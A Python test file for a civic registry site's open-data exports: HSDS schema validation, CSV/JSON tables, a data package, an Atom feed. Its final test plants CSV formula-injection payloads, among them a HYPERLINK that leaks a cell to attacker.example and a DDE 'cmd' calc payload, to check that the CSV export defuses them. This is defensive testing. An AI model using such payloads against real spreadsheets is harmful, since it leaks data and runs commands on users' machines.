"""Open data exports: the tables, the data package, the Open Referral files, /data/, the feed.

Checked against the official HSDS 3.0 and ORUK 3.0 schemas copied into
tests/fixtures/openreferral (with format checking on) and with the real `frictionless`.
"""

from __future__ import annotations

import copy
import csv
import json
import subprocess
import uuid
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator, FormatChecker

from c2c_data.hsds import NAMESPACE
from c2c_registry import derive
from c2c_registry.load.registry import load_registry
from c2c_registry.urls import Urls

from support.clock import BUILD_DATE
from support.content_corpus import SERVICE, write_files
from support.project import FIXTURES, ROOT, build_site
from support.tiny_site import tiny_copy

OPENREFERRAL = FIXTURES / "openreferral"
STANDARDS = ("hsds-3.0", "oruk-3.0")
URLS = Urls()
TODAY = date.fromisoformat(BUILD_DATE)


def _validator(standard: str, name: str) -> Draft202012Validator:
    schema = json.loads((OPENREFERRAL / standard / "schema" / "compiled" / name).read_text("utf-8"))
    return Draft202012Validator(schema, format_checker=FormatChecker())


def _json(site: Path, url: str):
    return json.loads((site / url).read_text("utf-8"))


@pytest.fixture(scope="module")
def registry():
    reg, problems = load_registry(ROOT / "content")
    assert not problems
    return reg


@pytest.fixture(scope="module")
def hsds(site):
    return _json(site, URLS.hsds_services())


def test_every_service_is_in_the_hsds_export_with_a_stable_id(hsds, registry):
    ids = {s["id"]: s for s in hsds}
    assert len(hsds) == len(registry.services) == len(ids)
    for slug, service in registry.services.items():
        record = ids[str(uuid.uuid5(NAMESPACE, f"service/{slug}"))]
        assert record["name"] == service.name
        assert record["assured_date"] == service.last_verified.isoformat()


@pytest.mark.parametrize("standard", STANDARDS)
def test_hsds_export_is_valid_under_the_official_schema(hsds, standard):
    validator = _validator(standard, "service_with_definitions.json")
    errors = [f"{s['name']}: {e.json_path}: {e.message}" for s in hsds for e in validator.iter_errors(s)]
    assert errors == []


def test_the_schema_check_does_fail_on_a_broken_service(hsds):
    """The check above is real: formats are checked and nested records too."""
    broken = copy.deepcopy(hsds[0])
    broken["url"] = "not a web address"
    broken["schedules"] = [{"id": "not-a-uuid", "freq": "DAILY"}]
    for standard in STANDARDS:
        messages = " ".join(e.message for e in _validator(standard, "service_with_definitions.json").iter_errors(broken))
        assert "is not a 'uri'" in messages and "is not a 'uuid'" in messages and "'DAILY' is not one of" in messages


@pytest.mark.parametrize("standard", STANDARDS)
def test_paged_services_are_shaped_like_the_hsds_api(site, hsds, standard):
    validator = _validator(standard, "service_list.json")
    first = _json(site, URLS.hsds_page(1))
    pages = [_json(site, URLS.hsds_page(n)) for n in range(1, first["total_pages"] + 1)]
    assert not (site / URLS.hsds_page(first["total_pages"] + 1)).exists()
    assert [p["page_number"] for p in pages] == list(range(1, len(pages) + 1))
    for page in pages:
        assert list(page) == ["total_items", "total_pages", "page_number", "size", "first_page", "last_page",
                              "empty", "contents"]
        assert page["total_items"] == len(hsds) and page["empty"] is False
        assert page["first_page"] == (page["page_number"] == 1)
        assert page["last_page"] == (page["page_number"] == len(pages))
        assert [e.message for s in page["contents"] for e in validator.iter_errors(s)] == []
    assert [s for p in pages for s in p["contents"]] == hsds


def test_one_file_per_service_matches_the_array(site, hsds):
    for record in hsds:
        assert _json(site, URLS.hsds_service(record["id"])) == record


def test_hsds_mapping_of_hours_areas_phones_and_terms(hsds, registry):
    shelter = next(s for s in registry.services.values() if any(h.closes < h.opens for h in s.hours))
    record = next(r for r in hsds if r["name"] == shelter.name)
    overnight = next(s for s in record["schedules"] if s.get("freq") and s["closes_at"] < s["opens_at"])
    assert overnight["freq"] == "WEEKLY" and "next morning" in overnight["description"]
    assert all(day in ("MO", "TU", "WE", "TH", "FR", "SA", "SU") for day in overnight["byday"].split(","))
    codes = {a["uri"].rsplit("/", 1)[-1] for a in record["service_areas"]}
    assert codes == {registry.vocab["areas"][a].gss for a in shelter.areas}
    if shelter.phone:
        assert record["contacts"][0]["phones"][0]["number"] == shelter.phone
    stages = {a["taxonomy_term"]["code"] for a in record["attributes"] if a["taxonomy_term"]["taxonomy"] == "c2c-stages"}
    assert stages == set(shelter.stages)


def test_action_rows_match_the_content_for_the_build_date(site, registry):
    rows = _json(site, URLS.data_table("actions", "json"))
    with (site / URLS.data_table("actions", "csv")).open(encoding="utf-8", newline="") as f:
        csv_rows = list(csv.DictReader(f))
    actions = sorted(((c.slug, a) for c in registry.commitments.values() for a in c.actions),
                     key=lambda pair: (pair[0], pair[1].number))
    assert len(rows) == len(csv_rows) == len(actions)
    for row, csv_row, (slug, action) in zip(rows, csv_rows, actions, strict=True):
        overdue = derive.is_overdue(action, TODAY)
        due_soon = derive.is_due_soon(action, TODAY, 30)
        assert (row["commitment"], row["number"], row["pledge"], row["stage"], row["due"], row["status"]) == (
            slug, action.number, action.pledge.id, action.stage, action.due.isoformat(), action.status)
        assert (row["overdue"], row["due_soon"]) == (overdue, due_soon)
        assert (csv_row["overdue"], csv_row["due_soon"]) == (str(overdue).lower(), str(due_soon).lower())
        assert csv_row["text"] == row["text"] == action.text
    assert any(r["overdue"] for r in rows) and not all(r["overdue"] for r in rows)


def test_tables_have_one_row_per_item_in_a_stable_column_order(site, registry):
    package = _json(site, URLS.datapackage())
    counts = {"organisations": len(registry.organisations), "commitments": len(registry.commitments),
              "pledges": sum(len(c.pledges) for c in registry.commitments.values()),
              "discussion": sum(len(c.discussion) for c in registry.commitments.values()),
              "services": len(registry.services)}
    for resource in package["resources"]:
        header = [f["name"] for f in resource["schema"]["fields"]]
        text = (site / URLS.data_table(resource["name"], "csv")).read_bytes()
        assert resource["bytes"] == len(text)
        lines = list(csv.reader(text.decode("utf-8").splitlines()))
        assert lines[0] == header
        rows = _json(site, URLS.data_table(resource["name"], "json"))
        assert all(list(r) == header for r in rows)
        if resource["name"] in counts:
            assert len(rows) == counts[resource["name"]]


def test_the_data_package_validates_with_frictionless(site):
    result = subprocess.run([str(ROOT / ".venv" / "bin" / "frictionless"), "validate", "--json",
                             str(site / URLS.datapackage())], capture_output=True, text=True, timeout=120)
    report = json.loads(result.stdout)
    assert result.returncode == 0 and report["valid"], result.stdout[-3000:]
    assert len(report["tasks"]) == 6


def test_schemas_and_vocabularies_are_published(site):
    for path in (ROOT / "schemas").glob("*.schema.json"):
        assert (site / URLS.data_schema(path.name)).read_bytes() == path.read_bytes()
    areas = _json(site, URLS.data_schema("vocabularies/areas.json"))
    assert {"id": "coventry", "name": "Coventry", "gss": "E08000026", "constituent": True} in areas


def test_the_data_page_lists_every_download_with_size_and_licence(site):
    html = (site / "data" / "index.html").read_text("utf-8")
    for url in (URLS.datapackage(), URLS.hsds_services(), URLS.hsds_page(1), URLS.feed(),
                URLS.data_table("actions", "csv"), URLS.data_table("services", "json"),
                URLS.data_schema("service.schema.json")):
        assert f'href="/{url}"' in html, url
    assert "Open Government Licence v3.0" in html and "KB" in html
    assert "<code>overdue</code>" in html and "<code>due_soon</code>" in html


def test_feed_lists_commitments_and_pages_link_to_it(site, registry):
    tree = ET.parse(site / URLS.feed())
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = tree.getroot().findall("a:entry", ns)
    assert len(entries) == len(registry.commitments)
    links = {e.find("a:link", ns).get("href") for e in entries}
    assert links == {URLS.absolute(URLS.commitment(c)) for c in registry.commitments.values()}
    updated = [e.find("a:updated", ns).text for e in entries]
    assert updated == sorted(updated, reverse=True)
    home = (site / "index.html").read_text("utf-8")
    assert f'type="application/atom+xml" title="New and updated commitments" href="/{URLS.feed()}"' in home
    assert f'href="/{URLS.data()}"' in home
    assert (site / URLS.sitemap()).is_file() and (site / URLS.robots()).is_file()


def test_the_published_csv_is_safe_to_open_and_the_json_is_unchanged(tmp_path):
    content = tiny_copy(tmp_path)
    hostile = {
        "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
        "provider": "@SUM(1+1)",
        "summary": "-2+3+cmd|' /C calc'!A0",
        "eligibility": "\t=1+1 after a tab",
    }
    service = SERVICE
    for field, value in hostile.items():
        service = "\n".join(line for line in service.splitlines() if not line.startswith(f"{field}:"))
        service += f"\n{field}: {json.dumps(value)}"
    service = service.replace('phone: "0121 496 0999"', 'phone: "+44 121 496 0999"')
    write_files(content, {"services/formula-service.yaml": service + "\n"})
    out = tmp_path / "out"
    built = build_site(content, out)
    assert built.returncode == 0, built.stdout + built.stderr

    with (out / URLS.data_table("services", "csv")).open(encoding="utf-8", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["slug"] == "formula-service")
    as_json = next(r for r in json.loads((out / URLS.data_table("services", "json")).read_text("utf-8"))
                   if r["slug"] == "formula-service")
    for field, value in [*hostile.items(), ("phone", "+44 121 496 0999")]:
        assert row[field] == "'" + value, field  # a spreadsheet shows it as text
        assert as_json[field] == value, field  # the JSON keeps what the file says
    assert row["slug"] == "formula-service" and row["last_verified"] == "2026-10-01"  # others as they are
    page = (out / URLS.data() / "index.html").read_text("utf-8")
    assert "has an apostrophe (<code>'</code>) put in front of it" in page
    assert "The JSON files keep every value exactly as written." in page
